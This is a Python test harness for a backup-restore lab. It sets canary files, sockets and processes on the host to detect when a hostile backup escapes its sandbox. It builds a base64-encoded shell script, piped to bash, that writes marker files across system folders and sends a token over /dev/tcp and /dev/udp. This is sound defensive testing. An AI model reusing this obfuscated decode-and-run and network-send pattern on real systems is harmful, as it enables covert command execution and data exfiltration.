"""Canaries around a machine: what a hostile backup would touch, call or start if it got out; looked at after a drill.

Every attack is aimed at canaries of its own, by names nobody could guess; `test_escapes.py` sets each of them off.
"""

from __future__ import annotations

import base64
import os
import re
import secrets
import selectors
import shutil
import socket
import subprocess
import tempfile
import threading
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager, suppress
from dataclasses import dataclass, field
from ipaddress import IPv6Address
from pathlib import Path
from typing import Final

from stems import leaks, left, mail_layers, needles, pdf_words

from restore_lab.sandboxes.container.plan import LAB_LABEL
from restore_lab.sandboxes.local.folder import DISK_FOLDER, MEMORY_FOLDER, PREFIX

#: Where a command that got out could leave its mark, beside the canaries' own folder.
_EVERYWHERE: Final = ("/tmp", "/var/tmp", "/dev/shm", "/run", "/root", "/home", "/.")  # noqa: S108 - looked at, not used
_LOOK_SECONDS: Final = 0.1
#: Gives the terminal's window a title: what a hostile name begins with.
TITLE_OF_TERMINAL: Final = "\x1b]0;"
#: `NSpid` of proc(5): the process has one number for each namespace of processes from ours down to its own.
_NAMESPACES: Final = re.compile(rb"^NSpid:(.*)$", re.MULTILINE)
#: What steers a terminal or turns the text around: never raw in anything that is shown, stored or sent.
_STEERING: Final = re.compile(
    "[\x00-\x08\x0b\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]"
)
_SCRIPT: Final = """
for folder in {folders}; do echo {token} >$folder/{token}; done
for address in {addresses}; do
  case $address in
    fe80:*) for link in /sys/class/net/*; do [ ${{link##*/}} = lo ] || echo $address%${{link##*/}}; done ;;
    *) echo $address ;;
  esac
done | while read -r address; do
  timeout 2 bash -c "echo {token} >/dev/tcp/$address/{port}; echo {token} >/dev/udp/$address/{port}" &
done
setsid sleep {number} &
sleep 0.7
"""
#: Addresses of IPv6 that this host has, and the links that they are of: `if_inet6` of proc(5).
_ADDRESSES: Final = Path("/proc/net/if_inet6")
#: Ends of containers' own cables, which come and go with them.
_CABLES: Final = "veth"


@dataclass(kw_only=True, slots=True)
class Canaries:
    """A folder, a port, a process number and a secret of one attack's own; `inside` says it ran within a machine."""

    folder: Path
    port: int
    addresses: tuple[str, ...]
    token: str = field(default_factory=lambda: f"canari{secrets.token_hex(8)}")
    secret: str = field(default_factory=lambda: f"secret{secrets.token_hex(8)}")
    number: str = field(default_factory=lambda: f"{secrets.randbelow(10**9) + 10**9}")
    inside: bool = False
    outside: set[str] = field(default_factory=set)
    _called: list[str] = field(default_factory=list)

    @property
    def script(self) -> str:
        """A command without quotes that sets off every canary it can reach."""
        folders = " ".join((str(self.folder), *_EVERYWHERE))
        text = _SCRIPT.format(
            folders=folders,
            token=self.token,
            addresses=" ".join(self.addresses),
            port=self.port,
            number=self.number,
        )
        coded = base64.b64encode(f"exec >/dev/null 2>&1\n{text}".encode()).decode()
        return f"echo {coded}|base64 -d|bash"

    def aimed(self, text: str) -> str:
        """Aim an attack at these canaries."""
        words = {
            "SH": self.script,
            "FOLDER": str(self.folder),
            "ADDRESS": [address for address in self.addresses if ":" not in address][-1],
            "PORT": str(self.port),
            "TOKEN": self.token,
            "SECRET": self.secret,
            "NUMBER": self.number,
        }
        for word, value in words.items():
            text = text.replace(f"@{word}@", value)
        return text

    def escaped(self, root: Path, *outputs: bytes, printed: bytes = b"") -> list[str]:
        """Say what got out: marks on the host, calls, processes, a secret read, letters that steer a terminal.

        `outputs` are of a terminal with colours of ours, `printed` is of one without: no control in it is ours.
        """
        told = [*self._told(root, (*outputs, printed))]
        if _STEERING.search(printed.decode("utf-8", "replace")):
            told.append("raw controls in what was printed")
        return [*self._marks(), *self._called, *sorted(self.outside), *told]

    def watch(self, over: threading.Event, sockets: list[socket.socket]) -> None:
        """Look at the sockets and at the processes of this host until it is over."""
        with selectors.DefaultSelector() as selector:
            for one in sockets:
                selector.register(one, selectors.EVENT_READ)
            while not over.is_set():
                for key, _ in selector.select(_LOOK_SECONDS):
                    self._take(key.fileobj)
                self.look()

    def look(self) -> None:
        """Look for processes of the attack: in a machine's own namespace, or among ours."""
        for entry in Path("/proc").glob("[0-9]*"):
            with suppress(OSError):
                if self.number.encode() not in (entry / "cmdline").read_bytes().split(b"\0"):
                    continue
                found = _NAMESPACES.search((entry / "status").read_bytes())
                if found and len(found.group(1).split()) > 1:
                    self.inside = True
                else:
                    self.outside.add("a process outside")

    def _take(self, listener: object) -> None:
        assert isinstance(listener, socket.socket)
        kind = "a datagram" if listener.type is socket.SOCK_DGRAM else "a call"
        with suppress(OSError):
            if listener.type is socket.SOCK_DGRAM:
                listener.recv(1024)
            else:
                listener.accept()[0].close()
        self._called.append(f"{kind} at {listener.family.name}")

    def _marks(self) -> Iterator[str]:
        for folder in (str(self.folder), *_EVERYWHERE):
            if os.path.lexists(Path(folder) / self.token):
                yield f"a mark in {folder}"
        kept = {path.name for path in self.folder.iterdir()}
        if kept - {self.token} != {"secret", "read.sql", "kept"} or not (self.folder / "kept" / "file").is_file():
            yield "the canaries' folder changed"

    def _told(self, root: Path, outputs: tuple[bytes, ...]) -> Iterator[str]:
        for path in left(root):
            data = path.read_bytes()
            is_mail, is_page = path.suffix == ".eml", path.suffix == ".pdf"
            layers = list(mail_layers(data)) if is_mail else [pdf_words(data) if is_page else data]
            if any(leaks(layer, needles(self.secret)) for layer in (data, *layers)):
                yield f"a secret of the host in {path.name}"
            if any(_STEERING.search(layer.decode("utf-8", "replace")) for layer in layers if layer[:5] != b"%PDF-"):
                yield f"raw controls in {path.name}"
        obeyed = f"{TITLE_OF_TERMINAL}{self.token}".encode()
        for output in outputs:
            if leaks(output, needles(self.secret)) or obeyed in output:
                yield "what a terminal would have obeyed, or a secret, in an output"


@contextmanager
def canaries() -> Iterator[Canaries]:
    """Set canaries out for a block, and take them in."""
    sockets = _listening()
    folder = Path(tempfile.mkdtemp(prefix="canaries-", dir="/var/tmp"))
    set_out = Canaries(folder=folder, port=sockets[0].getsockname()[1], addresses=addresses())
    folder.chmod(0o777)
    (folder / "secret").write_text(f"{set_out.secret}\n", "ascii")
    (folder / "read.sql").write_text(f'CREATE TABLE "{set_out.secret}" (id INT);\n', "ascii")
    (folder / "kept").mkdir()
    (folder / "kept").chmod(0o777)
    (folder / "kept" / "file").touch(0o666)
    over = threading.Event()
    thread = threading.Thread(target=set_out.watch, args=(over, sockets), name="canaries")
    thread.start()
    try:
        yield set_out
    finally:
        over.set()
        thread.join()
        for one in sockets:
            one.close()
        shutil.rmtree(folder)
        for parent in _EVERYWHERE:
            Path(parent, set_out.token).unlink(missing_ok=True)


def _listening() -> list[socket.socket]:
    """Listen on every address of this host, by TCP and by datagrams, at one port; and at an abstract Unix socket."""
    while True:
        with ExitStack() as opened:
            first = opened.enter_context(_bound(socket.AF_INET, socket.SOCK_STREAM, 0))
            port = first.getsockname()[1]
            try:
                further = [opened.enter_context(_bound(family, kind, port)) for family, kind in _further()]
            except OSError:  # somebody else has that port
                continue
            nearby = opened.enter_context(socket.socket(socket.AF_UNIX, socket.SOCK_STREAM))
            nearby.bind(f"\0/canary/.s.PGSQL.{port}")
            nearby.listen()
            opened.pop_all()
            return [first, *further, nearby]


def _further() -> list[tuple[socket.AddressFamily, socket.SocketKind]]:
    """What is listened at beside TCP of IPv4; IPv6 where this host has it."""
    datagrams = [(socket.AF_INET, socket.SOCK_DGRAM)]
    if not _ADDRESSES.exists():
        return datagrams
    return [*datagrams, (socket.AF_INET6, socket.SOCK_STREAM), (socket.AF_INET6, socket.SOCK_DGRAM)]


def _bound(family: socket.AddressFamily, kind: socket.SocketKind, port: int) -> socket.socket:
    one = socket.socket(family, kind)
    try:
        if family is socket.AF_INET6:
            one.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
        one.bind(("::" if family is socket.AF_INET6 else "0.0.0.0", port))  # noqa: S104 - on every address on purpose
        if kind is socket.SOCK_STREAM:
            one.listen(64)
    except OSError:
        one.close()
        raise
    return one


def addresses() -> tuple[str, ...]:
    """Loopback first, then every further address of this host, IPv4 before IPv6; the engine's bridge has some of them.

    Those of a link (`fe80:`) are without its name, which is another on the other side.
    """
    listed = subprocess.run(("hostname", "--all-ip-addresses"), capture_output=True, check=True, timeout=20)
    further = [word for word in listed.stdout.decode("ascii").split() if ":" not in word]
    return tuple(dict.fromkeys(("127.0.0.1", *further, *(address for address, _ in addresses_of_links()))))


def addresses_of_links() -> list[tuple[str, str]]:
    """Every address of IPv6 of this host with the link it is of, loopback first."""
    lines = _ADDRESSES.read_text("ascii").splitlines() if _ADDRESSES.exists() else []
    found = [(str(IPv6Address(bytes.fromhex(words[0]))), words[-1]) for words in map(str.split, lines)]
    return sorted(
        ((one, link) for one, link in found if not link.startswith(_CABLES)), key=lambda pair: pair[1] != "lo"
    )


def left_behind(lab_id: str, set_out: Canaries) -> list[str]:
    """Folders, containers, volumes and processes of a lab's drills that are still there, looked up without our code."""
    found = [f"folder {path.parent.name}" for path in _labels() if lab_id in path.read_text("utf-8", "replace")]
    now = Canaries(folder=set_out.folder, port=0, addresses=(), number=set_out.number)
    now.look()
    if now.inside or now.outside:
        found.append("a process")
    if shutil.which("docker") is None:
        return found
    mine = ("--quiet", "--filter", f"label={LAB_LABEL}={lab_id}")
    for words in (("docker", "ps", "--all", *mine), ("docker", "volume", "ls", *mine)):
        listed = subprocess.run(words, capture_output=True, check=False, timeout=60).stdout.decode()
        found += [f"{words[1]} {name}" for name in listed.split()]
    return found


def _labels() -> list[Path]:
    return [path for parent in (MEMORY_FOLDER, DISK_FOLDER) for path in parent.glob(f"{PREFIX}*/label.json")]
